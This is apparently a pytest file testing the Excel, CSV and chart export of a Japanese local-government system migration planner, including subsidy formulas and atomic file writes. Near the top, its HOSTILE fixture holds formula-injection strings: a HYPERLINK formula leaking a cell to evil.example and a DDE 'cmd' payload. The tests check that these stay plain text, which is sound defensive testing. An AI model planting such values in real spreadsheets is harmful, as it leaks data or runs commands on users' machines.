"""The export as a planner's colleague meets it: the workbook reopened, its formulas recomputed,
its text kept as text, its print settings, the CSV files and charts, and the command line.

The 補助金試算 formulas are checked two ways: by a small evaluator of the formula subset the
export writes (always runs), and by LibreOffice recalculating the file (where LibreOffice is
installed; skipped otherwise, with the reason).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path

import openpyxl
import pytest

from migration_planner.export import ExportError, ExportOptions, atomic_write, collect, export_data, export_plan
from migration_planner.export import xlsx as xlsx_mod
from migration_planner.export.csv_export import csv_safe
from migration_planner.export.tables import PHASES, SHEETS
from migration_planner.inventory import read_inventory
from migration_planner.placement import DESTINATION_LABELS, set_override
from migration_planner.plan_ops import import_hooks
from migration_planner.schedule.catalog import StepState, set_step_statuses
from migration_planner.schedule.steps import DONE, IN_PROGRESS
from migration_planner.store import Plan
from migration_planner.subsidy import AddScenario, ScenarioParams, ensure_baseline, evaluate
from migration_planner.tasks import Cancelled, TaskState

REPO = Path(__file__).resolve().parents[1]
SAMPLE = REPO / "sample_inventory.xlsx"
AS_OF = dt.date(2025, 10, 1)
#: Values a planner (or a hostile inventory) might type that a spreadsheet could run as formulas.
HOSTILE = {
    "OSK-002": ("name", "=HYPERLINK(\"http://evil.example/\"&A1,\"クリック\")"),
    "OSK-003": ("name", "+81-6-6208-8181"),
    "OSK-004": ("department", "-市民局"),
    "OSK-005": ("name", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "OSK-016": ("vendor", "=1+1"),
    "OSK-017": ("name", "#N/A"),
}
OVERRIDE_REASON = "=もう一度検討（庁内調整の結果）"
PESSIMISTIC = "=悲観ケース"      # a scenario name is user text too
MANUAL = "手動の遅れ"


# ---------------------------------------------------------------- a plan with everything in it
def _make_plan(path: Path) -> Plan:
    records = read_inventory(str(SAMPLE)).records
    by_id = {r.system_id: r for r in records}
    for sid, (field, value) in HOSTILE.items():
        setattr(by_id[sid], field, value)
    plan = Plan.open(str(path))
    plan.apply_inventory(records, source=str(SAMPLE), hooks=import_hooks())
    set_override(plan, "OSK-016", "on_premises", OVERRIDE_REASON, user="tanaka")
    set_step_statuses(plan, {("1", n): StepState(DONE, AS_OF) for n in range(1, 11)}
                      | {("1", 11): StepState(IN_PROGRESS, AS_OF)})
    ensure_baseline(plan)
    AddScenario(PESSIMISTIC, ScenarioParams(
        cap=1_900_000_000, committed=1_180_000_000, escalation_pct=12.5, running_multiplier=3.1,
        delay_months=6.25, related_share_pct=50, related_extra=12_345_678, spread_years=3)).apply(plan)
    AddScenario(MANUAL, ScenarioParams(
        delay_source="manual", delay_months=18, slipping=["1", "8", "14"], share_rule="weight",
        share_weights={"1": 2.0, "8": 3.0, "7": 0.5}, related_rule="listed", related_systems=["OSK-013", "OSK-020"],
        escalation_pct=-3.33)).apply(plan)
    return plan


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    folder = tmp_path_factory.mktemp("export")
    plan = _make_plan(folder / "大阪&市.mplan")
    try:
        data = collect(plan, as_of=AS_OF, samples=200, seed=1)
        result = export_data(data, ExportOptions(out=str(folder / "out.xlsx"), csv_dir=str(folder / "csv"),
                                                 charts_dir=str(folder / "charts")))
    finally:
        plan.close()
    return folder, data, result


@pytest.fixture(scope="module")
def wb(exported):
    return openpyxl.load_workbook(exported[2].workbook)


def _rows(ws, first: int) -> list[tuple]:
    return [r for r in ws.iter_rows(min_row=first, values_only=True)]


def _header_row(ws, first_header: str) -> int:
    for row in ws.iter_rows(min_row=1, max_row=10, max_col=1):
        if row[0].value == first_header:
            return row[0].row
    raise AssertionError(f"no header {first_header} in {ws.title}")


# ---------------------------------------------------------------- the workbook
def test_six_sheets_in_order(wb):
    assert wb.sheetnames == list(SHEETS) == ["移行スケジュール", "振り分け結果", "標準化スケジュール", "補助金試算",
                                              "依存関係", "説明"]


def test_placement_sheet_lists_every_system_with_destination_reasons_and_override(wb, exported):
    _folder, data, _result = exported
    ws = wb["振り分け結果"]
    h = _header_row(ws, "システムID")
    header = [c.value for c in ws[h]]
    assert header[:8] == ["システムID", "システム名", "所管所属", "系統", "移行先", "判定ステップ", "判定理由", "注意"]
    rows = {r[0]: dict(zip(header, r)) for r in _rows(ws, h + 1)}
    assert len(rows) == len(data.classified) == 60
    for c in data.classified:
        row = rows[c.system_id]
        assert row["移行先"] == DESTINATION_LABELS[c.destination]
        assert row["判定ステップ"] == c.step
        assert row["判定理由"] == " / ".join(c.reasons)
    ov = rows["OSK-016"]
    assert ov["移行先"] == "オンプレミス" and ov["手動設定"] == "○"
    assert ov["手動設定の理由"] == OVERRIDE_REASON and ov["設定者"] == "tanaka"
    assert isinstance(ov["設定日時"], dt.datetime) and abs(ov["設定日時"] - dt.datetime.now()) < dt.timedelta(hours=1)
    assert ws.cell(h + 1 + [c.system_id for c in data.classified].index("OSK-016"), 13).number_format == "yyyy/mm/dd hh:mm"
    # the override row is highlighted; an ordinary one is not
    r16 = h + 1 + [c.system_id for c in data.classified].index("OSK-016")
    assert ws.cell(r16, 5).fill.fgColor.rgb == "FFFFF2CC"
    assert ws.cell(h + 1, 5).fill.fill_type is None
    assert ws.freeze_panes == f"B{h + 1}"
    assert ws.auto_filter.ref == f"A{h}:P{h + 60}"


def test_schedule_sheet_matches_the_schedule(wb, exported):
    _folder, data, _result = exported
    ws = wb["標準化スケジュール"]
    h = _header_row(ws, "業務コード")
    header = [c.value for c in ws[h]]
    rows = {r[0]: dict(zip(header, r)) for r in _rows(ws, h + 1)}
    assert len(rows) == 22
    for w in data.schedule.workloads:
        row = rows[w.code]
        assert row["業務名"] == w.name
        assert row["開始"].date() == w.start and row["完了（稼働）"].date() == w.finish
        assert row["余裕（営業日）令和7年度末まで"] == w.slack_days
        assert row["進捗率"] == pytest.approx(w.progress)
        assert row["期限内の確率"] == pytest.approx(w.p_on_time)
        assert row["状況"] == w.status
        assert row["クリティカル"] == ("○" if w.critical else None)
    assert rows["1"]["進捗率"] == pytest.approx(10 / 40)  # ten steps done; the one in progress does not count
    col = header.index("進捗率") + 1
    assert ws.cell(h + 1, col).number_format == "0%"
    assert ws.cell(h + 1, header.index("開始") + 1).number_format == "yyyy/mm/dd"
    late = [w.code for w in data.schedule.workloads if w.status == "期限超過"]
    assert late, "the sample plan should have late workloads"
    r = h + 1 + [w.code for w in data.schedule.workloads].index(late[0])
    assert ws.cell(r, 2).fill.fgColor.rgb == "FFF8D7DA"


def test_edges_sheet_lists_the_workload_and_system_links(wb, exported):
    _folder, data, _result = exported
    ws = wb["依存関係"]
    h = _header_row(ws, "区分")
    rows = _rows(ws, h + 1)
    workload = [(r[1], r[3]) for r in rows if r[0] == "業務間"]
    assert workload == data.edges and ("4", "1") in workload
    system = [(r[1], r[3]) for r in rows if r[0] == "システム間"]
    assert system == [(rec.system_id, o) for rec in data.records for o in rec.links_to]


def test_about_sheet_says_what_each_sheet_holds_the_as_of_date_and_version(wb):
    ws = wb["説明"]
    values = {r[0]: r[1] for r in ws.iter_rows(values_only=True) if r and r[0]}
    assert values["基準日（as-of）"].date() == AS_OF
    assert "0.1.0" in values["プログラム"]
    for sheet in SHEETS:
        assert sheet in values, sheet


# ---------------------------------------------------------------- 移行スケジュール
def test_gantt_months_by_fiscal_year_phases_in_legend_colours_and_marked_dates(wb, exported):
    _folder, data, _result = exported
    ws = wb["移行スケジュール"]
    head = _header_row(ws, "区分")
    assert ws.freeze_panes == f"G{head + 1}" and ws.print_title_rows.replace("$", "") == f"1:{head}"
    heads = [c.value for c in ws[head]]
    assert heads[:6] == ["区分", "コード・ID", "名称", "状況・移行先", "開始", "完了"]
    months = heads[6:]
    assert ws.max_column == len(heads)  # nothing (the legend included) reaches past the last month
    assert len(months) % 12 == 0 and months[:12] == [4, 5, 6, 7, 8, 9, 10, 11, 12, 1, 2, 3]
    fy_cells = {c.value: c.column for c in ws[head - 1] if c.value}
    assert "令和7年度 / FY2025" in fy_cells and "令和12年度 / FY2030" in fy_cells
    first_fy = int(re.search(r"FY(\d{4})", min(fy_cells, key=fy_cells.get)).group(1))
    assert f"G{head - 1}:R{head - 1}" in {str(r) for r in ws.merged_cells.ranges}

    def col_of(day: dt.date) -> int:
        return 7 + (day.year - first_fy) * 12 + day.month - 4

    # The legend: a swatch per phase in the phase's colour, with its label beside it.
    legend = {c.value: c for r in range(2, head - 1) for c in ws[r] if c.value}
    for phase in PHASES.values():
        swatch = legend[phase.symbol]
        assert swatch.fill.fgColor.rgb == "FF" + phase.colour
        assert ws.cell(swatch.row, swatch.column + 1).value == phase.label
    assert any(str(v).startswith("法定期限 2026/03/31") for v in legend)
    # Deadline, extended deadline and the as-of date: coloured month heads and lines down the grid.
    d, e, t = col_of(data.deadline), col_of(data.extended_deadline), col_of(AS_OF)
    assert ws.cell(head, d).fill.fgColor.rgb == "FFC00000"
    assert ws.cell(head, e).fill.fgColor.rgb == "FF7030A0"
    assert ws.cell(head, t).fill.fgColor.rgb == "FF00B050"
    # The lines are the marker columns' style (it shows in every cell the sheet leaves empty) …
    from openpyxl.utils import get_column_letter as letter

    assert ws.column_dimensions[letter(d)].border.right.style == "thick"
    assert ws.column_dimensions[letter(d)].border.right.color.rgb == "FFC00000"
    assert ws.column_dimensions[letter(e)].border.right.style == "thick"
    assert ws.column_dimensions[letter(e)].border.right.color.rgb == "FF7030A0"
    assert ws.column_dimensions[letter(t)].border.left.style == "medium"
    # … and every cell written in those columns below the heads carries the line itself.
    for r in range(head + 1, ws.max_row + 1):
        for col, side, style in ((d, "right", "thick"), (e, "right", "thick"), (t, "left", "medium")):
            cell = ws._cells.get((r, col))
            if cell is not None:
                assert getattr(cell.border, side).style == style, cell.coordinate
    # the title and legend rows stop the lines (an explicit blank cell)
    assert ws._cells.get((1, d)) is not None and ws.cell(1, d).border.right.style is None
    # Workload rows: phases as coloured cells in the legend's colours, from the schedule's tasks.
    rows = {(r[0].value, r[1].value): r[0].row for r in ws.iter_rows(min_row=head + 1)}
    w1 = data.schedule.workload("1")
    r1 = rows[("業務", "1")]
    cut = next(t for t in data.schedule.tasks if t.workload == "1" and t.step == 40)
    assert ws.cell(r1, col_of(cut.start)).value == "切"
    assert ws.cell(r1, col_of(cut.start)).fill.fgColor.rgb == "FF" + PHASES["cutover"].colour
    first = min(t.start for t in data.schedule.tasks if t.workload == "1")
    assert ws.cell(r1, col_of(first)).fill.fgColor.rgb == "FF" + PHASES["planning"].colour
    assert ws.cell(r1, col_of(first) - 1).value is None
    # Late rows are highlighted: label cells pink in bold dark red, the months tinted (row style).
    assert w1.status == "期限超過"
    assert ws.cell(r1, 3).fill.fgColor.rgb == "FFF8D7DA" and ws.cell(r1, 3).font.b
    assert ws.row_dimensions[r1].fill.fgColor.rgb == "FFFCE4E4"
    assert (r1, d) in ws._cells and ws.cell(r1, d).border.right.style == "thick"  # a late row keeps its line
    # System rows: preparation in the year before the renewal, migration in the renewal year.
    c = next(c for c in data.classified if c.next_renewal_fy and not data.records[data.classified.index(c)].workloads)
    rs = rows[("システム", c.system_id)]
    fy = c.next_renewal_fy
    assert ws.cell(rs, col_of(dt.date(fy, 4, 1))).fill.fgColor.rgb == "FF" + PHASES["move"].colour
    assert ws.cell(rs, col_of(dt.date(fy, 3, 1))).fill.fgColor.rgb == "FF" + PHASES["prepare"].colour
    assert ws.cell(rs, 4).value == DESTINATION_LABELS[c.destination]
    assert ws.row_dimensions[rs].fill.fill_type is None or ws.cell(rs, 3).fill.fgColor.rgb == "FFF8D7DA"
    assert len([k for k in rows if k[0] == "業務"]) == 22 and len([k for k in rows if k[0] == "システム"]) == 60


# ---------------------------------------------------------------- print settings
@pytest.mark.parametrize("sheet", SHEETS)
def test_every_sheet_prints_landscape_one_page_wide_with_header_and_footer(wb, exported, sheet):
    _folder, data, _result = exported
    ws = wb[sheet]
    ps = ws.page_setup
    assert ps.orientation == "landscape"
    assert ps.fitToWidth == 1 and ps.fitToHeight == 0 and ws.sheet_properties.pageSetUpPr.fitToPage
    assert int(ps.paperSize) == (8 if sheet in ("移行スケジュール", "振り分け結果") else 9)  # A3 / A4
    # The plan's name (its & written as && inside a header) and the date, top and bottom.
    assert ws.oddHeader.left.text == "大阪&&市"
    assert ws.oddHeader.right.text == data.date_text
    assert ws.oddFooter.center.text == "&P / &N"
    assert ws.oddFooter.left.text == "大阪&&市" and ws.oddFooter.right.text == data.date_text
    if sheet == "移行スケジュール":
        assert ws.print_title_rows.replace("$", "") == f"1:{_header_row(ws, '区分')}"
    elif sheet != "説明":
        assert re.fullmatch(r"\$?\d+:\$?\d+", ws.print_title_rows or "")


# ---------------------------------------------------------------- text stays text
def test_hostile_text_is_written_as_strings_never_formulas(exported, wb):
    folder, _data, result = exported
    ws = wb["振り分け結果"]
    h = _header_row(ws, "システムID")
    found = {}
    for row in ws.iter_rows(min_row=h + 1):
        for cell in row:
            for sid, (_f, value) in HOSTILE.items():
                if cell.value == value:
                    found[sid] = cell.data_type
            if cell.value == OVERRIDE_REASON:
                found["reason"] = cell.data_type
    assert found == {**{sid: "s" for sid in HOSTILE if HOSTILE[sid][0] != "vendor"}, "reason": "s"}
    # In the file itself: the only formulas are the subsidy sheet's; the hostile text is inline text.
    with zipfile.ZipFile(result.workbook) as z:
        names = sorted(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        subsidy = names[3]
        for name in names:
            xml = z.read(name).decode()
            if name != subsidy:
                assert "<f>" not in xml, name
            assert 't="e"' not in xml, name
        placement = z.read(names[1]).decode()
    assert 't="inlineStr"><is><t>=HYPERLINK(' in placement
    assert "<is><t>#N/A</t></is>" in placement
    # The scenario called 「=悲観ケース」 heads its column as text.
    sub = wb["補助金試算"]
    assert any(c.value == PESSIMISTIC and c.data_type == "s" for c in sub[4])


def test_hostile_text_in_csv_gets_a_leading_quote_and_numbers_do_not(exported):
    folder, _data, _result = exported
    raw = (folder / "csv" / "振り分け結果.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:5] == ["システムID", "システム名", "所管所属", "系統", "移行先"]
    cells = {c for r in rows for c in r}
    for _sid, (field, value) in HOSTILE.items():
        if field == "vendor":
            continue
        if value.startswith(("=", "+", "-", "@")):
            assert "'" + value in cells and value not in cells
        else:
            assert value in cells  # 「#N/A」 is harmless in CSV: text as it is
    assert "'" + OVERRIDE_REASON in cells
    assert csv_safe(-5) == -5 and csv_safe("-5") == "'-5" and csv_safe("\tx") == "'\tx" and csv_safe("a=b") == "a=b"
    assert csv_safe(dt.date(2026, 3, 31)) == "2026-03-31"


def test_every_table_is_a_utf8_bom_csv(exported):
    folder, data, result = exported
    names = sorted(Path(p).name for p in result.csv_files)
    assert names == sorted(["移行スケジュール.csv", "振り分け結果.csv", "標準化スケジュール.csv", "補助金試算.csv",
                            "補助金試算_業務別.csv", "依存関係.csv"])
    for p in result.csv_files:
        raw = Path(p).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), p
        assert b"\r\n" in raw
    sub = list(csv.reader(io.StringIO((folder / "csv" / "補助金試算.csv").read_text("utf-8-sig"))))
    short = next(r for r in sub if r[1] == "不足額")
    assert [round(float(v) * 1000) for v in short[2:]] == [s.result.shortfall for s in data.scenarios]


# ---------------------------------------------------------------- 補助金試算: live formulas
_TOKEN = re.compile(r'\s*(?:(\d+\.?\d*(?:[eE][-+]?\d+)?)|(\$?[A-Z]{1,3}\$?\d+(?::\$?[A-Z]{1,3}\$?\d+)?)|([A-Z]+)\(|(<=|>=|<>|[-+*/(),=<>])|("[^"]*"))')


def _excel_round(x: float, digits: int, mode=ROUND_HALF_UP) -> float:
    """Excel's ROUND: half away from zero on the decimal value as displayed (15 significant digits)."""
    d = Decimal(repr(float(x)))
    d = Decimal(f"{d:.15g}") if d else d
    q = Decimal(1).scaleb(-digits)
    sign = -1 if d < 0 else 1
    return sign * float(abs(d).quantize(q, rounding=mode))


class Evaluator:
    """Evaluates the formula subset the export writes: + - * /, comparisons, text, SUM over ranges,
    ROUND, ROUNDUP, INT, MOD, MIN, MAX (over values and ranges), IF, AND. ``cells`` maps "B6" → a number, text or formula."""

    def __init__(self, cells: dict[str, object]) -> None:
        self.cells = cells
        self.cache: dict[str, object] = {}

    def value(self, ref: str):
        ref = ref.replace("$", "")
        if ref in self.cache:
            return self.cache[ref]
        raw = self.cells.get(ref)
        v = self.formula(raw) if isinstance(raw, str) and raw.startswith("=") else raw
        self.cache[ref] = v
        return v

    def formula(self, text: str):
        saved = getattr(self, "tokens", None), getattr(self, "i", 0)  # a referenced formula mid-parse
        try:
            return self._formula(text)
        finally:
            self.tokens, self.i = saved

    def _formula(self, text: str):
        self.tokens = [t for t in _TOKEN.findall(text[1:])]
        joined = "".join(n + r + (f + "(" if f else "") + o + q for n, r, f, o, q in self.tokens)
        assert joined == text[1:].replace(" ", ""), f"cannot tokenize {text}"
        self.i = 0
        v = self.compare()
        assert self.i == len(self.tokens), text
        return v

    def peek(self):
        return self.tokens[self.i] if self.i < len(self.tokens) else ("", "", "", "", "")

    def take(self):
        t = self.peek()
        self.i += 1
        return t

    def compare(self):
        a = self.additive()
        op = self.peek()[3]
        if op in ("=", "<", ">", "<=", ">=", "<>"):
            self.take()
            b = self.additive()
            return {"=": a == b, "<": a < b, ">": a > b, "<=": a <= b, ">=": a >= b, "<>": a != b}[op]
        return a

    def additive(self):
        v = self.term()
        while self.peek()[3] in ("+", "-"):
            op = self.take()[3]
            w = self.term()
            v = v + w if op == "+" else v - w
        return v

    def term(self):
        v = self.unary()
        while self.peek()[3] in ("*", "/"):
            op = self.take()[3]
            w = self.unary()
            v = v * w if op == "*" else v / w
        return v

    def unary(self):
        if self.peek()[3] == "-":
            self.take()
            return -self.unary()
        return self.atom()

    def args(self) -> list:
        out = []
        if self.peek()[3] == ")":
            self.take()
            return out
        while True:
            out.append(self.compare() if ":" not in self.peek()[1] else self.range())
            sep = self.take()[3]
            if sep == ")":
                return out
            assert sep == ","

    def range(self):
        a, b = self.take()[1].replace("$", "").split(":")
        (c1, r1), (c2, r2) = (re.fullmatch(r"([A-Z]+)(\d+)", x).groups() for x in (a, b))
        assert c1 == c2
        return [self.value(f"{c1}{r}") for r in range(int(r1), int(r2) + 1)]

    def atom(self):
        num, ref, func, op, text = self.take()
        if text:
            return text[1:-1]
        if num:
            return float(num)
        if ref:
            v = self.value(ref)
            return 0 if v is None else v
        if op == "(":
            v = self.compare()
            assert self.take()[3] == ")"
            return v
        a = self.args()
        flat = [x for v in a for x in (v if isinstance(v, list) else [v]) if isinstance(x, (int, float))]
        if func == "SUM":
            return sum(flat)
        if func == "ROUND":
            return _excel_round(a[0], int(a[1]))
        if func == "ROUNDUP":
            return _excel_round(a[0], int(a[1]), "ROUND_UP")
        if func == "INT":
            return float(Decimal(repr(a[0])).to_integral_value(rounding="ROUND_FLOOR"))
        if func == "MOD":
            return a[0] - a[1] * (a[0] // a[1])
        if func == "MIN":
            return min(flat)
        if func == "MAX":
            return max(flat)
        if func == "IF":
            return a[1] if a[0] else a[2]
        if func == "AND":
            return all(a)
        raise AssertionError(f"unexpected function {func}")


def _cells(ws) -> dict[str, object]:
    return {c.coordinate: c.value for row in ws.iter_rows() for c in row if c.value is not None}


def test_subsidy_sheet_baseline_in_b_shortfall_labelled_in_a(wb, exported):
    _folder, data, result = exported
    ws = wb["補助金試算"]
    names = [s.name for s in data.scenarios]
    assert names[0] == "ベースライン" and set(names) == {"ベースライン", PESSIMISTIC, MANUAL}
    assert [c.value for c in ws[4]][1:4] == names
    short = [c for c in ws["A"] if c.value == "不足額"]
    assert len(short) == 1
    r = short[0].row
    assert result.subsidy_cells["ベースライン"]["shortfall"] == f"B{r}"
    for col in "BCD":
        cell = ws[f"{col}{r}"]
        assert cell.data_type == "f" and cell.value.startswith("=")
        assert cell.number_format == "#,##0"
    # inputs in 千円
    cap_row = next(c.row for c in ws["A"] if c.value == "補助上限額（千円）")
    assert ws[f"B{cap_row}"].value == 1_860_000 and ws[f"C{cap_row}"].value == 1_900_000
    assert ws[f"B{cap_row}"].fill.fgColor.rgb == "FFDDEBF7"  # input cells are shaded


def test_subsidy_formulas_give_the_cores_figures_to_the_yen(wb, exported):
    _folder, data, result = exported
    ev = Evaluator(_cells(wb["補助金試算"]))
    for sd in data.scenarios:
        for key, ref in result.subsidy_cells[sd.name].items():
            got = ev.value(ref)
            assert round(got * 1000) == getattr(sd.result, key), (sd.name, key, got)
        assert sd.result.shortfall > 0


def test_subsidy_by_fiscal_year_formulas_give_the_cores_split(wb, exported):
    _folder, data, result = exported
    ev = Evaluator(_cells(wb["補助金試算"]))
    for sd in data.scenarios:
        cells = result.subsidy_years[sd.name]
        assert ev.value(cells["check"]) == "一致"
        shown = {y: c for y, c in cells.items() if y != "check"}
        assert set(sd.result.by_fiscal_year) <= set(shown)
        for y, refs in shown.items():
            fy = sd.result.by_fiscal_year.get(y)
            for key, ref in refs.items():
                expected = getattr(fy, key) if fy else 0
                assert round(ev.value(ref) * 1000) == expected, (sd.name, y, key)
    # the spread: the pessimistic scenario pays its eligible cost over 3 years
    pess = next(s for s in data.scenarios if s.name == PESSIMISTIC)
    assert sum(1 for fy in pess.result.by_fiscal_year.values() if fy.eligible_cost) >= 3


def test_changing_an_assumption_in_the_sheet_moves_the_shortfall_as_the_core_says(wb, exported):
    """A colleague raises the cap, the escalation and the delay of the pessimistic scenario in Excel."""
    _folder, data, result = exported
    cells = _cells(wb["補助金試算"])
    sd = next(s for s in data.scenarios if s.name == PESSIMISTIC)
    col = result.subsidy_cells[PESSIMISTIC]["shortfall"][0]

    def row_of(label: str) -> int:
        return next(int(k[1:]) for k, v in cells.items() if k.startswith("A") and v == label)

    cells[f"{col}{row_of('補助上限額（千円）')}"] = 2_500_000
    cells[f"{col}{row_of('移行経費の上振れ率（%）')}"] = 20
    cells[f"{col}{row_of('遅延月数（か月）')}"] = 9.5
    cells[f"{col}{row_of('ガバメントクラウド移行後の運用経費倍率（倍）')}"] = 5.7
    ev = Evaluator(cells)
    got = round(ev.value(result.subsidy_cells[PESSIMISTIC]["shortfall"]) * 1000)
    from migration_planner.subsidy import CostBase

    params = sd.params.with_(cap=2_500_000_000, escalation_pct=20, delay_months=9.5, running_multiplier=5.7)
    expected = evaluate(CostBase.from_records(data.records), params, sd.schedule_late).shortfall
    assert got == expected != sd.result.shortfall


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.slow
@pytest.mark.skipif(_soffice() is None, reason="LibreOffice (soffice) is not installed: the independent "
                    "recalculation check is skipped; the formula evaluator above still checks every figure")
def test_libreoffice_recalculates_the_same_figures(exported, tmp_path):
    _folder, data, result = exported
    out = tmp_path / "lo"
    profile = (tmp_path / "profile").as_uri()
    proc = subprocess.run([_soffice(), f"-env:UserInstallation={profile}", "--headless", "--calc",
                           "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), result.workbook],
                          capture_output=True, text=True, timeout=240)
    recalculated = out / Path(result.workbook).name
    assert recalculated.exists(), proc.stdout + proc.stderr
    ws = openpyxl.load_workbook(recalculated, data_only=True)["補助金試算"]
    for sd in data.scenarios:
        for key, ref in result.subsidy_cells[sd.name].items():
            assert round(ws[ref].value * 1000) == getattr(sd.result, key), (sd.name, key)
        years = result.subsidy_years[sd.name]
        assert ws[years["check"]].value == "一致"
        for y, fy in sd.result.by_fiscal_year.items():
            assert round(ws[years[y]["shortfall"]].value * 1000) == fy.shortfall, (sd.name, y)
            assert round(ws[years[y]["subsidy_covered"]].value * 1000) == fy.subsidy_covered, (sd.name, y)


# ---------------------------------------------------------------- charts
def test_charts_are_png_and_pdf_with_the_japanese_font(exported):
    folder, _data, result = exported
    names = sorted(Path(p).name for p in result.chart_files)
    assert names == sorted(f"{n}.{e}" for n in ("移行先と系統", "標準化スケジュール", "補助金不足額の内訳")
                           for e in ("png", "pdf"))
    for p in result.chart_files:
        raw = Path(p).read_bytes()
        if p.endswith(".png"):
            assert raw.startswith(b"\x89PNG\r\n\x1a\n") and len(raw) > 10_000
        else:
            assert raw.startswith(b"%PDF") and b"IPAexGothic" in raw


# ---------------------------------------------------------------- both write paths, same file
def _look(cell) -> tuple:
    b = cell.border
    return (cell.value, cell.data_type, cell.number_format, cell.fill.fgColor.rgb, cell.font.b, cell.font.sz,
            *((s.style, s.color.rgb if s.color else None) if s else None for s in (b.left, b.right)))


def test_the_public_openpyxl_path_writes_the_same_workbook(exported, tmp_path, monkeypatch):
    _folder, data, result = exported
    monkeypatch.setattr(xlsx_mod, "_FAST", False)
    other = tmp_path / "public.xlsx"
    export_data(data, ExportOptions(out=str(other)))
    a, b = openpyxl.load_workbook(result.workbook), openpyxl.load_workbook(other)
    assert type(a["説明"]).__name__ == type(b["説明"]).__name__
    for name in SHEETS:
        for ra, rb in zip(a[name].iter_rows(), b[name].iter_rows(), strict=True):
            for ca, cb in zip(ra, rb, strict=True):
                assert _look(ca) == _look(cb), ca.coordinate


# ---------------------------------------------------------------- never half a file
def test_a_failure_leaves_the_old_file_and_no_temporary(exported, tmp_path, monkeypatch):
    _folder, data, _result = exported
    target = tmp_path / "plan.xlsx"
    target.write_bytes(b"the old export")
    import migration_planner.export.excel as excel

    def boom(path, data, **kw):
        Path(path).write_bytes(b"PK half a zip")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(excel, "write_workbook", boom)
    with pytest.raises(OSError):
        export_data(data, ExportOptions(out=str(target)))
    assert target.read_bytes() == b"the old export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]


def test_cancelling_leaves_nothing(exported, tmp_path):
    import tempfile

    _folder, data, _result = exported
    scratch = {p.name for p in Path(tempfile.gettempdir()).glob("openpyxl.*")}
    state = TaskState(on_progress=lambda f, m: state.cancel() if f > 0.55 else None)
    with pytest.raises(Cancelled):
        export_data(data, ExportOptions(out=str(tmp_path / "x.xlsx")), state)
    assert list(tmp_path.iterdir()) == []
    # openpyxl's per-sheet scratch files are gone too, not left until the program exits
    assert {p.name for p in Path(tempfile.gettempdir()).glob("openpyxl.*")} <= scratch


def test_a_cancel_after_the_workbook_is_in_place_finishes_the_export(exported, tmp_path):
    """Past its first rename an export finishes: a cancel then must not report "nothing written"."""
    _folder, data, _result = exported
    state = TaskState(on_progress=lambda f, m: state.cancel() if m == "CSVを書き出しています" else None)
    result = export_data(data, ExportOptions(out=str(tmp_path / "x.xlsx"), csv_dir=str(tmp_path / "csv")), state)
    assert state.cancelled and result.workbook and (tmp_path / "x.xlsx").exists() and result.csv_files


def test_atomic_write_replaces_in_one_step(tmp_path):
    target = tmp_path / "a.txt"
    atomic_write(str(target), lambda tmp: Path(tmp).write_text("new"))
    assert target.read_text() == "new" and oct(target.stat().st_mode & 0o777) != "0o600"


def test_atomic_write_removes_what_a_killed_export_left_but_not_a_running_one(tmp_path):
    old = tmp_path / ".a.xlsx.k1ll3d.tmp"
    running = tmp_path / ".a.xlsx.runn1n.tmp"
    other = tmp_path / ".b.xlsx.0ld0ld.tmp"
    for p in (old, running, other):
        p.write_text("partial")
    two_hours_ago = time.time() - 7200
    os.utime(old, (two_hours_ago, two_hours_ago))
    os.utime(other, (two_hours_ago, two_hours_ago))
    atomic_write(str(tmp_path / "a.xlsx"), lambda tmp: Path(tmp).write_text("new"))
    assert not old.exists()
    assert running.exists() and other.exists()  # another export's file, or one still being written


def test_unknown_scenario_and_bad_targets_are_refused_in_japanese(tmp_path):
    plan = Plan.open(str(tmp_path / "p.mplan"))
    try:
        with pytest.raises(ExportError, match="シナリオ「ない」はありません"):
            export_plan(plan, ExportOptions(out=str(tmp_path / "o.xlsx"), scenario="ない", samples=0))
        with pytest.raises(ExportError, match="がありません"):
            export_plan(plan, ExportOptions(out=str(tmp_path / "missing" / "o.xlsx")))
        with pytest.raises(ExportError, match=r"\.xlsx"):
            export_plan(plan, ExportOptions(out=str(tmp_path / "o.xls")))
    finally:
        plan.close()
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("p.mplan")) == []


def test_a_folder_without_write_permission_is_refused(tmp_path, monkeypatch):
    """As root every folder is writable, so the permission is denied by the operating system's check."""
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, mode: False if str(p).startswith(str(tmp_path / "ro")) else real(p, mode))
    (tmp_path / "ro").mkdir()
    plan = Plan.open(str(tmp_path / "p.mplan"))
    try:
        with pytest.raises(ExportError, match="書き込む権限がありません"):
            export_plan(plan, ExportOptions(out=str(tmp_path / "ro" / "o.xlsx")))
        with pytest.raises(ExportError, match="書き込む権限がありません"):
            export_plan(plan, ExportOptions(charts_dir=str(tmp_path / "ro")))
    finally:
        plan.close()
    assert list((tmp_path / "ro").iterdir()) == []


def test_an_empty_plan_still_exports(tmp_path):
    plan = Plan.open(str(tmp_path / "empty.mplan"))
    try:
        result = export_plan(plan, ExportOptions(out=str(tmp_path / "e.xlsx"), samples=0, as_of=AS_OF))
    finally:
        plan.close()
    wb = openpyxl.load_workbook(result.workbook)
    assert wb.sheetnames == list(SHEETS)
    assert any(c.value == "不足額" for c in wb["補助金試算"]["A"])


def test_a_schedule_that_cannot_be_computed_is_said_not_hidden(exported, tmp_path, monkeypatch):
    import migration_planner.schedule as schedule

    def broken(*a, **k):
        raise schedule.ScheduleError("循環する連携になります：1 → 4 → 1")

    monkeypatch.setattr(schedule, "compute_schedule", broken)
    plan = Plan.open(str(tmp_path / "p.mplan"))
    try:
        data = collect(plan, as_of=AS_OF, samples=0)
        result = export_data(data, ExportOptions(out=str(tmp_path / "x.xlsx")))
    finally:
        plan.close()
